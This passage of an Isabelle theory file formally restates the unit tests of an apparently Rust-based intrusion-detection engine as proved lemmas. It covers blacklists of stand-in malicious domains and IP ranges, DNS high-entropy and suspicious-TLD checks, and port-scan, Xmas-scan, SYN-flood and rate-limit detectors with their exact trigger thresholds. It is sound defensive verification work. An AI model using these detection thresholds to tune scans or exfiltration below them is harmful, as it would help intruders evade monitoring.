(* ===== verification/RepoTests.thy ===== *)
theory RepoTests
  imports Capture Config Engine Entropy
begin

text \<open>
  The unit tests of the repository, \<open>tests/ids_test.rs\<close> and \<open>tests/capture_test.rs\<close>, as lemmas on the
  model, under the names of the tests.  A test that runs the program once becomes a statement about
  every parameter the model leaves open: every clock, every Bloom filter without false
  negatives, every matcher that finds exactly the occurrences, every logarithm within its error.
  Left out are the tests that need a network interface, \<open>rate_limiter_connection_flood_triggers\<close>, and
  \<open>engine_port_scan_sets_flag_1\<close> (for the detector alone: \<open>port_scan_horizontal_fires_at_threshold\<close>).
\<close>

section \<open>Helpers of the tests\<close>

text \<open>\<open>Config::testing\<close> of \<open>config.rs\<close>.\<close>

definition Config_testing :: "bool \<Rightarrow> bytes option \<Rightarrow> bytes option \<Rightarrow> config" where
  "Config_testing list_dev ifc filt =
     \<lparr>list_devices = list_dev, cf_interface = ifc, bpf_filter = filt, channel_capacity = 64,
      grpc_addr = Some (str ''http://127.0.0.1:50051''), grpc_batch_size = Some 10, grpc_flush_ms = Some 100,
      heartbeat_interval_secs = Some 10, cf_agent_id = Some (str ''test-agent''), register_token = None,
      test_send = True, test_packets_per_tick = Some 5, test_tick_ms = Some 100, test_max_ticks = Some 3\<rparr>"

definition test_signal :: "string \<Rightarrow> rat \<Rightarrow> signal" where
  "test_signal n s = \<lparr>sig_name = n, sig_score = s, sig_detail = fmt [] []\<rparr>"

definition make_pkt ::
  "ip_addr \<Rightarrow> ip_addr \<Rightarrow> u8 \<Rightarrow> u16 option \<Rightarrow> u16 option \<Rightarrow> u8 option \<Rightarrow> bytes \<Rightarrow> raw_packet" where
  "make_pkt src dst proto sp dp flags payload =
     (let header_len = 40;
          data = replicate header_len 0 @ payload;
          len = of_nat (length data)
      in \<lparr>timestamp = 0, pkt_data = data, orig_len = len, cap_len = len, interface = str ''eth0'',
          link_type = Ethernet,
          transport = Some \<lparr>src_ip = src, dst_ip = dst, src_port = sp, dst_port = dp, protocol = proto,
            tcp_flags = flags, ttl = 64, ip_flags = 0, ip_frag_offset = 0, icmp_type = None, icmp_code = None,
            eth_src_mac = None, vlan_id = None,
            payload_offset = (if payload = [] then header_len + 1 else header_len)\<rparr>,
          is_truncated = False, packet_id = 0, ids_score = 0, ids_flag = 0\<rparr>)"

definition make_tcp :: "ip_addr \<Rightarrow> ip_addr \<Rightarrow> u16 \<Rightarrow> u16 \<Rightarrow> u8 \<Rightarrow> raw_packet" where
  "make_tcp src dst sp dp flags = make_pkt src dst 6 (Some sp) (Some dp) (Some flags) []"

definition make_engine :: "'b bloom \<Rightarrow> json_api \<Rightarrow> disk \<Rightarrow> int \<Rightarrow> 'b engine" where
  "make_engine B js disk now = IdsEngine_new (Baseline_new js disk now None) (Blacklist_new B)"

section \<open>Score\<close>

lemmas score_defs = IdsResult_is_clean_def sum_f32_def Severity_from_score_def det_defs test_signal_def

lemma score_empty_signals_is_clean:
  "IdsResult_is_clean (IdsResult_from_signals [] 0)"
  "severity (IdsResult_from_signals [] 0) = Info"
  "total_score (IdsResult_from_signals [] 0) = 0"
  by (simp_all add: score_defs)

lemma score_single_signal_below_info_stays_clean:
  "IdsResult_is_clean (IdsResult_from_signals [test_signal ''x'' 20] 0)"
  by (simp add: score_defs f32_numeral)

lemma score_at_thresholds:
  "severity (IdsResult_from_signals [test_signal ''x'' THRESHOLD_WARNING] 0) = Warning"
  "\<not> IdsResult_is_clean (IdsResult_from_signals [test_signal ''x'' THRESHOLD_WARNING] 0)"
  "severity (IdsResult_from_signals [test_signal ''x'' THRESHOLD_ALERT] 0) = Alert"
  "severity (IdsResult_from_signals [test_signal ''x'' 95] 0) = Critical"
  by (simp_all add: score_defs f32_numeral)

lemma score_correlation_bonus_on_two_signals:
  "total_score (IdsResult_from_signals [test_signal ''a'' 20, test_signal ''b'' 20] 0) = 50"
  by (simp add: score_defs f32_numeral)

lemma score_capped_at_100:
  "total_score (IdsResult_from_signals [test_signal ''a'' 90, test_signal ''b'' 90] 0) = 100"
  by (simp add: score_defs f32_numeral)

lemma score_signals_sorted_descending:
  "map sig_name (signals (IdsResult_from_signals
     [test_signal ''low'' 10, test_signal ''high'' 80, test_signal ''mid'' 40] 0)) = [''high'', ''mid'', ''low'']"
  by (simp add: test_signal_def)

section \<open>Blacklist\<close>

lemma blacklist_exact_ip_fires:
  assumes "bloom_ok B"
  shows "map_option sig_name (Blacklist_check_ip B (V4 1 2 3 4)
     (Blacklist_add_ip B (u32_from_ipv4 1 2 3 4) (Blacklist_new B))) = Some ''blacklisted_ip''"
  using assms by (simp add: bloom_ok_def Blacklist_add_ip_def Blacklist_new_def)

lemma blacklist_exact_ip_no_hit_for_other:
  "Blacklist_check_ip B (V4 1 2 3 5) (Blacklist_add_ip B (u32_from_ipv4 1 2 3 4) (Blacklist_new B)) = None"
  by (simp add: Blacklist_add_ip_def Blacklist_new_def)

lemma blacklist_domain_exact_match_fires:
  "Blacklist_check_domain lc (str ''evil.example.com'')
     (Blacklist_add_domain lc (str ''evil.example.com'') (Blacklist_new B)) \<noteq> None"
  by (simp add: Blacklist_check_domain_def Blacklist_add_domain_def)

lemma blacklist_domain_case_insensitive:
  "Blacklist_check_domain (map ascii_lower) (str ''evil.example.com'')
     (Blacklist_add_domain (map ascii_lower) (str ''Evil.Example.Com'') (Blacklist_new B)) \<noteq> None"
  by (simp add: Blacklist_check_domain_def Blacklist_add_domain_def trim_end_matches_def str_def ascii_lower_def)

lemma blacklist_domain_no_partial_match:
  "Blacklist_check_domain (map ascii_lower) (str ''sub.evil.example.com'')
     (Blacklist_add_domain (map ascii_lower) (str ''evil.example.com'') (Blacklist_new B)) = None"
  "Blacklist_check_domain (map ascii_lower) (str ''example.com'')
     (Blacklist_add_domain (map ascii_lower) (str ''evil.example.com'') (Blacklist_new B)) = None"
  by (simp_all add: Blacklist_check_domain_def Blacklist_add_domain_def Blacklist_new_def trim_end_matches_def str_def)

section \<open>DNS\<close>

lemma extract_dns_query_name_returns_none_on_short_packet:
  "extract_dns_query_name (replicate 5 0) = Some None"
  by (simp add: extract_dns_query_name_def)

lemma extract_dns_query_name_parses_wire_format:
  "extract_dns_query_name
     ([0, 0, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0] @ [7] @ str ''example'' @ [3] @ str ''com'' @ [0] @ [0, 1, 0, 1]) =
   Some (Some (str ''example.com''))"
  by code_simp

lemma shannon_entropy_known_values:
  "shannon_entropy lg [] = 0"
  by (simp add: shannon_entropy_def)

section \<open>Baseline\<close>

lemma baseline_starts_in_learning_phase: "Baseline_is_learning (Baseline_new js disk now None)"
  by (simp add: Baseline_is_learning_def Baseline_new_def BaselineState_default_def)

lemma baseline_finish_learning_transitions_to_refinement:
  "\<not> Baseline_is_learning (fst (Baseline_finish_learning js ok t (Baseline_new js disk now None, d)))"
  by (simp add: Baseline_is_learning_def tick_defs Let_def)

lemma baseline_observed_is_known:
  "Baseline_is_known_port 443 (Baseline_observe_port 443 (Baseline_new js disk now None))"
  "\<not> Baseline_is_known_port 9999 (Baseline_observe_port 443 (Baseline_new js disk now None))"
  "Baseline_is_known_country (str ''US'') (Baseline_observe_country (str ''US'') (Baseline_new js disk now None))"
  "\<not> Baseline_is_known_country (str ''XX'') (Baseline_observe_country (str ''US'') (Baseline_new js disk now None))"
  "Baseline_is_known_dns lc (str ''example.com'') (Baseline_observe_dns lc (str ''example.com'') (Baseline_new js disk now None))"
  by (simp_all add: observe_defs upd_state_def Baseline_new_def BaselineState_default_def
      Baseline_is_known_port_def Baseline_is_known_country_def Baseline_is_known_dns_def str_def)

lemma baseline_observed_dns_is_known:
  "Baseline_is_known_dns (map ascii_lower) (str ''EXAMPLE.COM'')
     (Baseline_observe_dns (map ascii_lower) (str ''example.com'') (Baseline_new js disk now None))"
  "\<not> Baseline_is_known_dns (map ascii_lower) (str ''evil.example.com'')
     (Baseline_observe_dns (map ascii_lower) (str ''example.com'') (Baseline_new js disk now None))"
  by (simp_all add: observe_defs upd_state_def Baseline_new_def BaselineState_default_def
      Baseline_is_known_dns_def str_def ascii_lower_def)

section \<open>Capture\<close>

lemma test_invalid_interface_returns_error:
  assumes "device_list api = Inr devices" and "str ''no_such_interface_xyz'' \<notin> set devices"
  shows "run_capture api (cf_interface (Config_testing False (Some (str ''no_such_interface_xyz'')) None))
     (bpf_filter (Config_testing False (Some (str ''no_such_interface_xyz'')) None)) turns st =
       Some (Done (Inl (InterfaceNotFound (str ''no_such_interface_xyz''))), st)"
proof -
  have "find (\<lambda>d. d = str ''no_such_interface_xyz'') devices = None"
    using assms(2) by (auto simp: find_None_iff)
  then show ?thesis
    using assms(1) by (simp add: run_capture_def resolve_device_def Config_testing_def and_then_def map_err_def)
qed

lemma test_system_time_from_timeval:
  "system_time_from_timeval 0 0 = Some 0"
  "system_time_from_timeval 1 500000 = Some (1500 * 1000000)"
  by (simp_all add: system_time_from_timeval_def)

section \<open>Domains and ranges\<close>

lemma blacklist_load_domain_list_skips_comments:
  defines "bl \<equiv> Blacklist_load_domain_list (map ascii_lower)
     (str ''# header'' @ [0x0A] @ str ''malware.example.org'' @ [0x0A] @ str ''phish.example.net'' @ [0x0A]) (Blacklist_new low_byte_bloom)"
  shows "Blacklist_check_domain (map ascii_lower) (str ''malware.example.org'') bl \<noteq> None"
    and "Blacklist_check_domain (map ascii_lower) (str ''clean.example.com'') bl = None"
  unfolding bl_def by code_simp+

lemma mask_24: "NOT (mask 8) = (0xFFFFFF00 :: u32)"
  by code_simp

lemma blacklist_cidr_no_hit_outside_range:
  "Blacklist_check_ip B (V4 192 168 2 1) (Blacklist_add_cidr (cidr_text 192 168 1 0 24) (Blacklist_new B)) = None"
  by (simp add: Blacklist_add_cidr_def Blacklist_new_def from_cidr_text CidrEntry_contains_def prefix_mask_def mask_24)

lemma blacklist_cidr_fires_for_address_in_range:
  "Blacklist_check_ip B (V4 203 0 113 99) (Blacklist_add_cidr (cidr_text 203 0 113 0 24) (Blacklist_new B)) \<noteq> None"
  by (simp add: Blacklist_add_cidr_def Blacklist_new_def from_cidr_text CidrEntry_contains_def prefix_mask_def mask_24)

section \<open>DNS names\<close>

lemma dns_high_entropy_label_fires:
  assumes "lg_ok lg"
  shows "''dns_high_entropy'' \<in> sig_name ` set (DnsDetector_inspect_name lc lg (str ''xq7k2mznvprtf.evil.com''))"
proof -
  have "ENTROPY_THRESHOLD < shannon_entropy lg (str ''xq7k2mznvprtf'')"
    by (rule distinct_entropy [OF assms]) (simp_all add: str_def)
  then have "''dns_high_entropy'' \<in> sig_name ` set (label_signals lg (str ''xq7k2mznvprtf''))"
    by (simp add: high_entropy_signal)
  then show ?thesis by (simp add: DnsDetector_inspect_name_def trim_end_matches_def str_def Let_def image_Un)
qed

lemma dns_normal_domain_is_clean:
  assumes "lg_ok lg"
  shows "DnsDetector_inspect_name (map ascii_lower) lg (str ''www.example.com'') = []"
proof -
  have "\<not> ENTROPY_THRESHOLD < shannon_entropy lg (str w)" if "length w \<le> 11" for w
    using short_entropy [OF assms, of "str w"] that by (simp add: str_def)
  from this [of "''www''"] this [of "''example''"] show ?thesis
    by (simp add: DnsDetector_inspect_name_def label_signals_def trim_end_matches_def str_def Let_def
        SUSPICIOUS_TLDS_def MAX_FQDN_LEN_def MAX_LABEL_LEN_def ascii_lower_def)
qed

lemma dns_suspicious_tld_fires:
  "''dns_suspicious_tld'' \<in> sig_name ` set (DnsDetector_inspect_name (map ascii_lower) lg (str ''download.something.xyz''))"
  by (simp add: DnsDetector_inspect_name_def trim_end_matches_def str_def Let_def image_Un
      SUSPICIOUS_TLDS_def ascii_lower_def)

lemma dns_long_fqdn_fires:
  "''dns_long_fqdn'' \<in> sig_name ` set (DnsDetector_inspect_name lc lg (replicate 130 0x61 @ str ''.example.com''))"
  by (simp add: DnsDetector_inspect_name_def trim_end_matches_def str_def Let_def image_Un MAX_FQDN_LEN_def)

section \<open>Port scans\<close>

lemma port_scan_horizontal_fires_at_threshold:
  assumes "\<forall>p. in_span t0 (sc_ports (clk p))"
  shows "scan_flag h (clk 20) src 20 (scan_state h (map (\<lambda>p. Observe (clk p, src, p)) (map of_nat [1..<20]))) =
      Some ''port_scan_horizontal''"
    and "m < 20 \<Longrightarrow> scan_flag h (clk (of_nat m)) src (of_nat m)
      (scan_state h (map (\<lambda>p. Observe (clk p, src, p)) (map of_nat [1..<m]))) \<noteq> Some ''port_scan_horizontal''"
proof -
  have s: "\<forall>e \<in> set (map (\<lambda>p. Observe (clk p, src, p)) ps). event_in_span t0 src e" for ps
    using assms by auto
  have p: "seen_ports (inputs_of (map (\<lambda>p. Observe (clk p, src, p)) ps)) src = set ps" for ps
    by (auto simp: seen_ports_def inputs_of_def)
  have c: "in_span t0 (sc_ports (clk q))" for q using assms by blast
  note count = horizontal_count [OF s c, unfolded p]
  have "card (insert 20 (set (map of_nat [1..<20] :: u16 list))) = 20" by (simp add: upt_rec)
  then show "scan_flag h (clk 20) src 20 (scan_state h (map (\<lambda>p. Observe (clk p, src, p)) (map of_nat [1..<20]))) =
      Some ''port_scan_horizontal''" by (simp only: count)
  show "scan_flag h (clk (of_nat m)) src (of_nat m)
      (scan_state h (map (\<lambda>p. Observe (clk p, src, p)) (map of_nat [1..<m]))) \<noteq> Some ''port_scan_horizontal''" if "m < 20"
  proof -
    have "card (insert (of_nat m) (set (map of_nat [1..<m] :: u16 list))) \<le> Suc (length [1..<m])"
      by (metis List.card_set length_map length_remdups_leq card_insert_le_m1 card_length le_SucI card_insert_if finite_set Suc_le_mono)
    then show ?thesis using that by (simp only: count) simp
  qed
qed

lemma port_scan_no_trigger_for_repeated_port:
  assumes "\<forall>i. in_span t0 (sc_ports (clk i))"
  shows "scan_flag h (clk m) src 443 (scan_state h (map (\<lambda>i. Observe (clk i, src, 443)) [0..<m])) \<noteq> Some ''port_scan_horizontal''"
proof -
  have s: "\<forall>e \<in> set (map (\<lambda>i. Observe (clk i, src, 443)) [0..<m]). event_in_span t0 src e" using assms by auto
  have p: "seen_ports (inputs_of (map (\<lambda>i. Observe (clk i, src, 443)) [0..<m])) src \<subseteq> {443}"
    by (auto simp: seen_ports_def inputs_of_def)
  have "card (insert 443 (seen_ports (inputs_of (map (\<lambda>i. Observe (clk i, src, 443)) [0..<m])) src)) \<le> 1"
    using p by (metis card_mono finite.emptyI finite_insert insert_subset is_singletonI is_singleton_altdef order_refl singletonI)
  then show ?thesis using horizontal_count [OF s, of "clk m" h 443] assms by auto
qed

section \<open>TCP flags\<close>

lemma xmas_scan_detected:
  "''xmas_scan'' \<in> set (syn_names clk src dst 12345 80 0x29 SynFloodDetector_new)"
  by (simp add: syn_names_def syn_inspect_names [OF syn_std_new] det_defs)

lemma rst_injection_detected_without_prior_syn:
  "''rst_injection'' \<in> set (syn_names clk src dst 54321 443 0x04 SynFloodDetector_new)"
  by (simp add: syn_names_def syn_inspect_names [OF syn_std_new] is_rst_def is_syn_def det_defs)

section \<open>Rate limits\<close>

lemma rate_limiter_byte_flood_triggers:
  "map_option sig_name (fst (RateLimiter_inspect clk src (11 * 1024 * 1024) False RateLimiter_new)) = Some ''rate_exceeded_bytes''"
proof -
  have std: "rl_std RateLimiter_new" using rate_inv_new by (simp add: rate_inv_def)
  have b: "bucket_for clk src RateLimiter_new = Bucket_new 1000 (rc_new_refill clk) (rc_new_window clk)"
    by (simp add: bucket_for_def entry_or_def RateLimiter_new_def)
  have r: "refilled (rc_consume clk) (rate_count RateLimiter_new clk (11 * 1024 * 1024) False (bucket_for clk src RateLimiter_new)) = 1000"
    by (rule fresh_refill) (simp_all add: b Bucket_new_def)
  show ?thesis
    unfolding inspect_verdict [OF std] consumed_def consume_eq r by (simp add: b Bucket_new_def rate_count_def Let_def)
qed

lemma rate_limiter_packet_flood_triggers:
  "\<exists>v \<in> set (fst (detector_run rate_obs RateLimiter_sweep
     (replicate 1100 (Observe (rate_clock_at t, src, 100, False))) RateLimiter_new)). flags_rate v"
proof -
  have "map flags_rate (fst (detector_run rate_obs RateLimiter_sweep
      (replicate 1100 (Observe (rate_clock_at t, src, 100, False))) RateLimiter_new)) =
    replicate (min 1100 1000) False @ replicate (1100 - 1000) True"
    using rate_inv_new
    by (intro burst_verdicts) (simp_all add: rate_inv_def bucket_for_def entry_or_def RateLimiter_new_def Bucket_new_def rate_clock_at_def)
  then have "True \<in> set (map flags_rate (fst (detector_run rate_obs RateLimiter_sweep
      (replicate 1100 (Observe (rate_clock_at t, src, 100, False))) RateLimiter_new)))" by simp
  then show ?thesis by auto
qed

section \<open>The engine\<close>

lemma make_engine_payload [simp]: "e_payload (make_engine B js disk now) = PayloadScanner_new"
  by (simp add: make_engine_def IdsEngine_new_def)

lemma engine_reports:
  assumes "ac_ok (env_ac env)" and "e_payload e = PayloadScanner_new" and "transport pkt = Some tm"
    and "(x, s) \<in> set (findings env clk pkt tm e)"
  shows "\<exists>r e'. IdsEngine_analyze env clk pkt e = Some (r, e') \<and> sig_name s \<in> sig_name ` set (signals r)"
  using analyze_findings [OF assms(1-3), of clk] imageI [OF imageI [OF assms(4), of snd], of sig_name]
  by (simp add: result_signals)

lemma engine_no_transport_returns_clean:
  "transport pkt = None \<Longrightarrow> \<exists>r. IdsEngine_analyze env clk pkt e = Some (r, e) \<and> IdsResult_is_clean r"
  by (simp add: IdsEngine_analyze_def IdsResult_is_clean_def sum_f32_def det_defs)

lemma engine_ip_fragmented_packet_fires_signal:
  assumes "ac_ok (env_ac env)" and "transport pkt = Some tm" and "ip_frag_offset tm = 8"
  shows "\<exists>r e'. IdsEngine_analyze env clk pkt (make_engine B js disk now) = Some (r, e') \<and>
     ''ip_fragmentation'' \<in> sig_name ` set (signals r)"
proof -
  let ?s = "hd (frag_signals tm)"
  have "sig_name ?s = ''ip_fragmentation''" "?s \<in> set (frag_signals tm)"
    using assms(3) by (simp_all add: frag_signals_def)
  then show ?thesis
    using engine_reports [OF assms(1) make_engine_payload assms(2), of 0 ?s] by (simp add: findings_defs tagged_def)
qed

lemma engine_truncated_packet_fires_signal:
  assumes "ac_ok (env_ac env)" and "transport pkt = Some tm" and "is_truncated pkt"
  shows "\<exists>r e'. IdsEngine_analyze env clk pkt (make_engine B js disk now) = Some (r, e') \<and>
     ''packet_truncated'' \<in> sig_name ` set (signals r)"
proof -
  let ?s = "hd (trunc_signals pkt)"
  have "sig_name ?s = ''packet_truncated''" "?s \<in> set (trunc_signals pkt)"
    using assms(3) by (simp_all add: trunc_signals_def)
  then show ?thesis
    using engine_reports [OF assms(1) make_engine_payload assms(2), of 0 ?s] by (simp add: findings_defs tagged_def)
qed

lemma engine_vlan_reserved_id_fires_signal:
  assumes "ac_ok (env_ac env)" and "transport pkt = Some tm" and "vlan_id tm = Some 4095"
  shows "\<exists>r e'. IdsEngine_analyze env clk pkt (make_engine B js disk now) = Some (r, e') \<and>
     ''vlan_reserved_id'' \<in> sig_name ` set (signals r)"
proof -
  let ?s = "hd (vlan_signals tm)"
  have "sig_name ?s = ''vlan_reserved_id''" "?s \<in> set (vlan_signals tm)"
    using assms(3) by (simp_all add: vlan_signals_def)
  then show ?thesis
    using engine_reports [OF assms(1) make_engine_payload assms(2), of 0 ?s] by (simp add: findings_defs tagged_def)
qed

lemma engine_xmas_scan_detected:
  assumes "ac_ok (env_ac env)"
  shows "\<exists>r e'. IdsEngine_analyze env clk (make_tcp (V4 10 0 0 7) (V4 10 0 0 8) 11111 22 0x29) (make_engine B js disk now) = Some (r, e') \<and>
     ''xmas_scan'' \<in> sig_name ` set (signals r)"
proof -
  let ?pkt = "make_tcp (V4 10 0 0 7) (V4 10 0 0 8) 11111 22 0x29" and ?e = "make_engine B js disk now"
  obtain tm where tm: "transport ?pkt = Some tm" "tcp_flags tm = Some 0x29" "src_port tm = Some 11111" "dst_port tm = Some 22"
    by (simp add: make_tcp_def make_pkt_def Let_def)
  have "e_syn_flood ?e = SynFloodDetector_new" by (simp add: make_engine_def IdsEngine_new_def)
  then have "''xmas_scan'' \<in> sig_name ` set (fst (syn_inspection clk tm ?e))"
    using xmas_scan_detected [of "ec_syn clk" "src_ip tm" "dst_ip tm"]
    by (simp add: syn_inspection_def tm syn_names_def syn_inspect_names [OF syn_std_new] flip: set_map)
  then obtain s where "s \<in> set (fst (syn_inspection clk tm ?e))" "sig_name s = ''xmas_scan''" by auto
  then show ?thesis
    using engine_reports [OF assms make_engine_payload tm(1), of 2 s] by (simp add: findings_defs tagged_def)
qed

lemma syn_flood_triggers_after_50_syns_no_acks:
  assumes "\<forall>i. in_ten t0 (yc_new (clk i)) \<and> in_ten t0 (yc_elapsed (clk i))"
  shows "''syn_flood'' \<in> set (syn_names (clk 49) src dst (10000 + 49) 80 0x02
     (syn_run (map (\<lambda>i. Observe (clk i, src, dst, 10000 + of_nat i, 80, 0x02)) [0..<49]) SynFloodDetector_new))"
proof -
  let ?es = "map (\<lambda>i. Observe (clk i, src, dst, 10000 + of_nat i :: u16, 80 :: u16, 0x02 :: u8)) [0..<49]"
  have syn: "is_syn 0x02" "(0x02 :: u8) AND TCP_ACK = 0" by (simp_all add: is_syn_def det_defs)
  have e: "\<forall>e \<in> set ?es. syn_in_span t0 src e" using assms by auto
  have m: "50 = observed (syn_from src) ?es + (if is_syn 0x02 then 1 else 0)"
    by (simp add: observed_def filter_map comp_def syn_from_def syn)
  have n: "0 = observed (ack_from src) ?es + (if (0x02 :: u8) AND TCP_ACK \<noteq> 0 then 1 else 0)"
    by (simp add: observed_def filter_map comp_def ack_from_def syn)
  show ?thesis by (subst flood_iff [OF e _ _ m n]) (use assms in auto)
qed

lemma IdsEngine_new_sel_blacklist: "e_blacklist (IdsEngine_new b bl) = bl"
  by (simp add: IdsEngine_new_def)

lemma engine_blacklisted_src_sets_flag_7:
  assumes "ac_ok (env_ac env)" and "bloom_ok (env_bloom env)"
  shows "\<exists>r e'. IdsEngine_analyze env clk (make_tcp (V4 1 2 3 4) (V4 192 168 1 2) 12345 80 0x02)
       (IdsEngine_new (Baseline_new js disk now None)
          (Blacklist_add_ip (env_bloom env) (u32_from_ipv4 1 2 3 4) (Blacklist_new (env_bloom env)))) = Some (r, e') \<and>
     flag_reason r = 7 \<and> \<not> IdsResult_is_clean r"
proof -
  let ?pkt = "make_tcp (V4 1 2 3 4) (V4 192 168 1 2) 12345 80 0x02"
  let ?e = "IdsEngine_new (Baseline_new js disk now None)
    (Blacklist_add_ip (env_bloom env) (u32_from_ipv4 1 2 3 4) (Blacklist_new (env_bloom env)))"
  obtain tm where tm: "transport ?pkt = Some tm" "src_ip tm = V4 1 2 3 4" by (simp add: make_tcp_def make_pkt_def Let_def)
  have e: "e_payload ?e = PayloadScanner_new" by (simp add: IdsEngine_new_def)
  have hit: "Blacklist_check_ip (env_bloom env) (src_ip tm) (e_blacklist ?e) \<noteq> None"
    unfolding tm(2) using blacklist_exact_ip_fires [OF assms(2)]
    by (metis IdsEngine_new_sel_blacklist option.simps(3) option.simps(8))
  obtain s where s: "(7, s) \<in> set (findings env clk ?pkt tm ?e)" "sig_score s = 90" "blacklist_findings env ?e tm \<noteq> []"
    by (rule blacklisted_finding) (use hit in blast)
  have "90 \<le> total_score (packet_result env clk ?pkt tm ?e)" using total_ge_finding [OF assms(1) e s(1)] s(2) by simp
  moreover have "flag_reason (packet_result env clk ?pkt tm ?e) = 7"
    using s(3) first_reason_findings [of env clk ?pkt tm ?e] by (simp add: packet_result_def)
  ultimately show ?thesis
    using analyze_findings [OF assms(1) e tm(1), of clk] by (auto simp: IdsResult_is_clean_def THRESHOLD_INFO_def)
qed

lemma first_packet_within_limits:
  "unat n \<le> 10 * 1024 * 1024 \<Longrightarrow> fst (RateLimiter_inspect clk src n False RateLimiter_new) = None"
proof -
  assume n: "unat n \<le> 10 * 1024 * 1024"
  have std: "rl_std RateLimiter_new" using rate_inv_new by (simp add: rate_inv_def)
  have b: "bucket_for clk src RateLimiter_new = Bucket_new 1000 (rc_new_refill clk) (rc_new_window clk)"
    by (simp add: bucket_for_def entry_or_def RateLimiter_new_def)
  have r: "refilled (rc_consume clk) (rate_count RateLimiter_new clk n False (bucket_for clk src RateLimiter_new)) = 1000"
    by (rule fresh_refill) (simp_all add: b Bucket_new_def)
  have "map_option sig_name (fst (RateLimiter_inspect clk src n False RateLimiter_new)) = None"
    unfolding inspect_verdict [OF std] consumed_def consume_eq r using n
    by (simp add: b Bucket_new_def rate_count_def Let_def word_less_nat_alt)
  then show ?thesis by simp
qed

lemma ack_reports_nothing: "syn_names clk src dst sp dp 0x10 SynFloodDetector_new = []"
  unfolding syn_names_def syn_inspect_names [OF syn_std_new]
  by (simp add: is_rst_def is_syn_def det_defs counter_step_def ho_step_def track_half_open_def count_flags_def
      is_ack_def is_syn_ack_def maybe_reset_def entry_or_def SynFloodDetector_new_def PerIpCounters_new_def
      tab_remove_def tab_len_def Let_def)

lemma engine_clean_ack_packet_is_clean:
  assumes "ac_ok (env_ac env)" and "\<forall>ip. country_code env ip = None"
  shows "\<exists>r e'. IdsEngine_analyze env clk (make_tcp (V4 192 168 1 1) (V4 192 168 1 2) 12345 80 0x10)
     (make_engine (env_bloom env) js disk now) = Some (r, e') \<and> IdsResult_is_clean r"
proof -
  let ?pkt = "make_tcp (V4 192 168 1 1) (V4 192 168 1 2) 12345 80 0x10" and ?e = "make_engine (env_bloom env) js disk now"
  obtain tm where tm: "transport ?pkt = Some tm" by (simp add: make_tcp_def make_pkt_def Let_def)
  have sel: "src_ip tm = V4 192 168 1 1" "dst_ip tm = V4 192 168 1 2" "src_port tm = Some 12345" "dst_port tm = Some 80"
    "protocol tm = 6" "tcp_flags tm = Some 0x10" "ip_flags tm = 0" "ip_frag_offset tm = 0" "vlan_id tm = None"
    "payload_offset tm = 41" "length (pkt_data ?pkt) = 40" "orig_len ?pkt = 40" "\<not> is_truncated ?pkt"
    using tm by (auto simp: make_tcp_def make_pkt_def Let_def)
  have eng: "e_blacklist ?e = Blacklist_new (env_bloom env)" "e_rate_limiter ?e = RateLimiter_new"
    "e_port_scan ?e = PortScanDetector_new" "e_syn_flood ?e = SynFloodDetector_new" "bl_phase (e_baseline ?e) = Learning"
    by (simp_all add: make_engine_def IdsEngine_new_def Baseline_new_def BaselineState_default_def)
  have no_syn: "\<not> is_syn_packet tm" by (simp add: is_syn_packet_def sel)
  have bl: "blacklist_findings env ?e tm = []"
    by (simp add: blacklist_findings_def sel eng Blacklist_new_def tagged_def)
  have rate: "fst (rate_inspection clk ?pkt tm ?e) = None"
    by (simp add: rate_inspection_def eng no_syn first_packet_within_limits sel)
  have scan: "fst (scan_inspection env clk tm ?e) = None"
    by (simp add: scan_inspection_def sel eng scan_inspect_defs PortScanDetector_new_def SlidingSet_insert_def
        SlidingSet_new_def entry_or_def live_def Let_def)
  have syn: "fst (syn_inspection clk tm ?e) = []"
    using ack_reports_nothing [of "ec_syn clk" "V4 192 168 1 1" "V4 192 168 1 2" 12345 80]
    by (simp add: syn_inspection_def sel eng syn_names_def)
  have quiet: "icmp_signals tm = []" "frag_signals tm = []" "trunc_signals ?pkt = []" "vlan_signals tm = []"
    "port_signals (e_baseline ?e) tm = []" "geo_signal (country_code env (src_ip tm)) (e_baseline ?e) tm = None"
    "payload_hits env ?pkt tm ?e = []" "dns_findings env ?pkt tm ?e = []"
    using assms(2)
    by (simp_all add: sel eng icmp_signals_def frag_signals_def trunc_signals_def vlan_signals_def port_signals_def
        geo_signal_def payload_hits_def has_payload_def dns_findings_def query_of_def dns_query_section_def)
  have "findings env clk ?pkt tm ?e = []" by (simp add: findings_defs bl rate scan syn quiet tagged_def)
  then show ?thesis
    using analyze_findings [OF assms(1) make_engine_payload tm, of clk]
    by (simp add: packet_result_def IdsResult_is_clean_def sum_f32_def det_defs)
qed

section \<open>Lists with comments, independent sources, balanced handshakes\<close>

lemma cidr_line_blocks:
  "line_blocks (str ''198.51.100.0/24'') (u32_from_ipv4 a b c d) \<longleftrightarrow>
     u32_from_ipv4 a b c d AND 0xFFFFFF00 = u32_from_ipv4 198 51 100 0"
proof -
  have t: "trim (str ''198.51.100.0/24'') = cidr_text 198 51 100 0 24" by code_simp
  have n: "\<not> comment_line (cidr_text 198 51 100 0 24)" "0x2F \<in> set (cidr_text 198 51 100 0 24)"
    by code_simp+
  show ?thesis
    unfolding line_blocks_def t using n
    by (simp add: from_cidr_blocks from_cidr_text CidrEntry_contains_def prefix_mask_def mask_24)
qed

lemma blacklist_load_ip_list_skips_comments:
  assumes "bloom_ok B"
  defines "bl \<equiv> Blacklist_load_ip_list B (str ''; Spamhaus header'' @ [0x0A] @ str ''# another comment'' @ [0x0A] @
      str ''198.51.100.0/24'' @ [0x0A] @ str ''203.0.113.1'' @ [0x0A]) (Blacklist_new B)"
  shows "Blacklist_check_ip B (V4 198 51 100 5) bl \<noteq> None"
    and "Blacklist_check_ip B (V4 203 0 113 1) bl \<noteq> None"
    and "Blacklist_check_ip B (V4 8 8 8 8) bl = None"
proof -
  let ?c = "str ''; Spamhaus header'' @ [0x0A] @ str ''# another comment'' @ [0x0A] @
      str ''198.51.100.0/24'' @ [0x0A] @ str ''203.0.113.1'' @ [0x0A]"
  have lines: "str_lines ?c = [str ''; Spamhaus header'', str ''# another comment'', str ''198.51.100.0/24'', addr_text (203, 0, 113, 1)]"
    by code_simp
  have com: "comment_line (trim (str ''; Spamhaus header''))" "comment_line (trim (str ''# another comment''))" by code_simp+
  have "bloom_covers B (Blacklist_new B)" by (simp add: bloom_covers_def Blacklist_new_def)
  from check_ip_blocks [OF load_covers [OF assms(1) this]]
  have "Blacklist_check_ip B (V4 a b c d) bl \<noteq> None \<longleftrightarrow> (\<exists>l \<in> set (str_lines ?c). line_blocks l (u32_from_ipv4 a b c d))" for a b c d
